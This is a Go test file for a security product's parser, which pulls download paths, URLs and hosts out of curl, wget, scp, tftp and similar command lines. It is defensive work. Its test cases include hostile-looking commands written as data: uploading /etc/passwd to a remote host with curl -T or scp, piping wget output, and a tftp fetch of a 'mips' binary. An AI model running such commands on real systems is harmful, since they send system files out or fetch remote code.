package fields

import (
	"path"
	"slices"
	"strings"
	"testing"

	"github.com/holdfast-security/holdfast/event"
)

func TestDownloads(t *testing.T) {
	for _, c := range []struct {
		command string // arguments separated by spaces
		paths   string
		urls    string
		hosts   string
		toPipe  bool
	}{
		{"curl http://h/x", "", "http://h/x", "h", true},
		{"curl -o /tmp/a http://h/x", "/tmp/a", "http://h/x", "h", false},
		{"curl -o/tmp/a http://h/x", "/tmp/a", "http://h/x", "h", false},
		{"curl -fsSLo a.sh https://user:pw@H.example:8443/x?y=/z", "/home/eve/a.sh", "https://user:pw@H.example:8443/x?y=/z", "h.example", false},
		{"curl --output=/tmp//a/../b http://h/x", "/tmp/b", "http://h/x", "h", false},
		{"curl --output /tmp/a --create-dirs http://h/x", "/tmp/a", "http://h/x", "h", false},
		{"curl -O http://h/dir/tool%2Esh#top", "/home/eve/tool.sh", "http://h/dir/tool%2Esh#top", "h", false},
		{"curl -sO --output-dir /var/tmp h/dir/t.sh", "/var/tmp/t.sh", "h/dir/t.sh", "h", false},
		{"curl -o - http://h/x", "", "http://h/x", "h", true},
		{"curl -o /tmp/1 http://h/1 -o /tmp/2 http://h/2 http://h/3", "/tmp/1 /tmp/2", "http://h/1 http://h/2 http://h/3", "h", true},
		{"curl --url http://h/x -H Accept:text -A agent -d data", "", "http://h/x", "h", true},
		{"curl -T /etc/passwd http://h/", "", "", "", false},
		{"curl http://[::1]:80/x -o /tmp/a", "/tmp/a", "http://[::1]:80/x", "::1", false},
		{"wget http://h/a/b.sh", "/home/eve/b.sh", "http://h/a/b.sh", "h", false},
		{"wget http://h/", "/home/eve/index.html", "http://h/", "h", false},
		{"wget -qO- http://h/x", "", "http://h/x", "h", true},
		{"wget -q -O - http://h/x", "", "http://h/x", "h", true},
		{"wget -O/tmp/.x http://h/x", "/tmp/.x", "http://h/x", "h", false},
		{"wget --output-document=/tmp/x http://h/y", "/tmp/x", "http://h/y", "h", false},
		{"wget -nc -P /tmp http://h/y", "/tmp/y", "http://h/y", "h", false},
		{"wget -nv --directory-prefix /tmp -t 3 http://h/y", "/tmp/y", "http://h/y", "h", false},
		{"wget -c -- http://h/y", "/home/eve/y", "http://h/y", "h", false},
		{"busybox wget -O /tmp/x http://h/y", "/tmp/x", "http://h/y", "h", false},
		{"fetch -o /tmp/x http://h/y", "/tmp/x", "http://h/y", "h", false},
		{"aria2c -d /tmp -o x http://h/y", "/tmp/x", "http://h/y", "h", false},
		{"lwp-download http://h/y /tmp/z", "/tmp/z", "http://h/y", "h", false},
		{"scp -P 2222 eve@h:/srv/x /tmp/y", "/tmp/y", "eve@h:/srv/x", "h", false},
		{"scp eve@h:/srv/x .", "/home/eve/x", "eve@h:/srv/x", "h", false},
		{"scp /etc/passwd eve@h:/srv/", "", "", "", false},
		{"tftp -g -r mips -l /tmp/m 192.0.2.1", "/tmp/m", "tftp://192.0.2.1/mips", "192.0.2.1", false},
		{"cat /tmp/x", "", "", "", false},
		{"curl", "", "", "", false},
		{"wget -O", "", "", "", false},
	} {
		t.Run(c.command, func(t *testing.T) {
			argv := strings.Fields(c.command)
			var d download
			d.parse(&event.Process{Arguments: argv, Directory: "/home/eve", Executable: &event.File{Path: "/usr/bin/" + path.Base(argv[0])}})
			if got := strings.Join(d.paths, " "); got != c.paths {
				t.Errorf("paths are %q, want %q", got, c.paths)
			}
			if got := strings.Join(d.urls, " "); got != c.urls {
				t.Errorf("urls are %q, want %q", got, c.urls)
			}
			if got := strings.Join(d.hosts, " "); got != c.hosts {
				t.Errorf("hosts are %q, want %q", got, c.hosts)
			}
			if d.toPipe != c.toPipe {
				t.Errorf("to a pipe: %t, want %t", d.toPipe, c.toPipe)
			}
		})
	}
}

func TestRelativePathNeedsADirectory(t *testing.T) {
	var d download
	d.parse(&event.Process{Arguments: []string{"wget", "http://h/x"}})
	if len(d.paths) > 0 || !slices.Equal(d.urls, []string{"http://h/x"}) {
		t.Errorf("got %+v, want the url only", d)
	}
}

func FuzzDownload(f *testing.F) {
	f.Add("curl -fsSLo a http://h/x")
	f.Add("wget -qO- http://[h]/%zz -P")
	f.Add("scp a:b c")
	f.Add("busybox")
	f.Fuzz(func(t *testing.T, command string) {
		var d download
		d.parse(&event.Process{Arguments: strings.Split(command, " "), Directory: "/d"})
		for _, p := range d.paths {
			if !path.IsAbs(p) || path.Clean(p) != p {
				t.Errorf("%q gives path %q, which is not absolute and clean", command, p)
			}
		}
	})
}
